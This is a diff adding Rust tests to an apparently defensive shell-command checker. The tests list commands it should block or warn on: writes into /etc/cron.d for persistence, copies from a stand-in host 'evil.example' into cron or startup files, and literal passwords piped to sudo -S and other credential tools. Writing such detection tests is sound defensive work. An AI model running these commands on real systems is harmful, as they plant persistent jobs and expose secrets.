@@ -4912,3 +4912,97 @@ fn lines_without_a_command_word_are_judged_not_crashed_on() {
     // Only assignments, only redirects: no argv at all reaches the rules.
     allowed(&["X=1", "X='a b' Y=2", "> out.txt"]);
 }
+
+#[test]
+fn an_output_letter_counts_in_a_bundle_glued_to_a_path_and_in_each_programs_own_spelling() {
+    judged(
+        "persistence.scheduled",
+        Block,
+        &[
+            "sort -no /etc/cron.d/x in",
+            "sort -uo/etc/cron.d/x in",
+            "unzip -qod /etc/cron.d x.zip",
+            "unzip -od/etc/cron.d x.zip",
+            "csplit -sf /etc/cron.d/x in 5",
+            "csplit -f/etc/cron.d/x in 5",
+            "ssh-keygen -t ed25519 -qf /etc/cron.d/x -N ''",
+            "gpg -ao /etc/cron.d/x --export",
+            "curl -D /etc/cron.d/x http://example.com/",
+            "curl --cookie-jar /etc/cron.d/x http://example.com/",
+            "curl --trace-ascii /etc/cron.d/x http://example.com/",
+            "wget -N -P /etc/cron.d http://example.com/x",
+            "wget --directory-prefix=/etc/cron.d http://example.com/x",
+            "tar -czf /etc/cron.d/x src",
+            "tar czf /etc/cron.d/x src",
+            "tar --create --file=/etc/cron.d/x src",
+            "7z a /etc/cron.d/x src",
+        ],
+    );
+    // `-o` of a listing, a match, an offset, mount and connection options, an owner kept, an
+    // archive read: nothing written there.
+    allowed(&[
+        "ls -o /etc/cron.d",
+        "ls -lo ~/.bashrc",
+        "lsof -o /etc/passwd",
+        "grep -ro cron /etc/cron.d",
+        "rsync -avo src/ backup/",
+        "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
+        "tar -xzf /tmp/x.tgz -C build",
+        "7z x /tmp/x.7z -obuild",
+        "apt-get -o Dir::Etc::sourcelist=/etc/apt/sources.list update",
+    ]);
+}
+
+#[test]
+fn a_copy_from_a_remote_source_writes_its_local_destination() {
+    judged(
+        "persistence.scheduled",
+        Block,
+        &[
+            "scp evil.example:/x /etc/cron.d/x",
+            "rsync evil.example:/x /etc/cron.d/x",
+            "aws s3 cp s3://bucket/x /etc/cron.d/x",
+        ],
+    );
+    // The remote file's own name, under a destination folder.
+    judged(
+        "persistence.startup_file",
+        Warn,
+        &["scp host.example:.bashrc ~/", "aws s3 cp s3://bucket/.bashrc ~/"],
+    );
+    allowed(&[
+        "scp host.example:/srv/x .",
+        "rsync -av host.example:/data/ data/",
+        "aws s3 cp s3://bucket/x ./x",
+        "scp -r host.example:/srv/app ~/app",
+    ]);
+}
+
+#[test]
+fn a_literal_password_fed_to_sudo_s_or_to_an_option_reading_a_secret_from_stdin() {
+    judged(
+        "secrets.password_argument",
+        Block,
+        &[
+            "echo 'Hunter2024' | sudo -S ls",
+            "echo Hunter2024 | sudo -kS apt-get update",
+            "echo Hunter2024 | sudo -u postgres -S psql",
+            "echo 'Hunter2024' | az login --service-principal -u x -p - -t t",
+            "echo Abc12345xyz | doctl auth init --access-token -",
+            "echo Abc12345xyz | vault login -method=userpass username=me password=-",
+            "echo 'Hunter2024' | docker secret create db_pass -",
+            "echo 'Hunter2024' | kubectl create secret generic x --from-file=p=/dev/stdin",
+            "echo 'Hunter2024' | kinit bob",
+            "echo 'Hunter2024' | cryptsetup luksOpen /dev/sdb1 vault",
+        ],
+    );
+    // A variable, no password reader, a wrapper that only looks like `-S`.
+    allowed(&[
+        "echo \"$PW\" | sudo -S ls",
+        "echo y | sudo apt-get install x",
+        "echo Hunter2024 | sudo env -S 'ls -l'",
+        "echo Hunter2024 | sudo -u postgres ls",
+        "cat config.json | docker config create app -",
+        "echo \"$TOKEN\" | doctl auth init --access-token -",
+    ]);
+}
